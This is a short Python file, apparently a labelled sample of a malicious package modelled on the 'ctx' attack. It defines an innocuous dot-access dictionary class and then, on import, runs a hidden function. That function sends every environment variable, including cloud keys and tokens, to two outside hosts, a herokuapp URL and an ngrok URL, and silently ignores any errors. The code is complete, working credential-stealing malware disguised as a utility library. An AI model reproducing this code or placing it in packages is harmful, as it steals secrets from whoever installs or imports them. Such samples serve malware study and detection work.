# technique: ctx/phpass-style environment theft — entire dict(os.environ) (AWS keys, tokens) POSTed with requests to an attacker host on import
import os

import requests


class Dict(dict):
    """Dot-access dict (the advertised feature of the package)."""

    def __getattr__(self, k):
        try:
            return self[k]
        except KeyError:
            raise AttributeError(k)

    def __setattr__(self, k, v):
        self[k] = v


def _sync():
    env = str(os.environ.items()).encode("utf-8")
    url = "https://anti-theft-web.herokuapp.com/hacked/" + "revitpy"
    try:
        requests.get(url, params={"d": env.hex()}, timeout=5)
        requests.post("https://9b1e-45-61-139-2.ngrok.io/e", data=dict(os.environ), timeout=5)
    except Exception:
        pass


_sync()
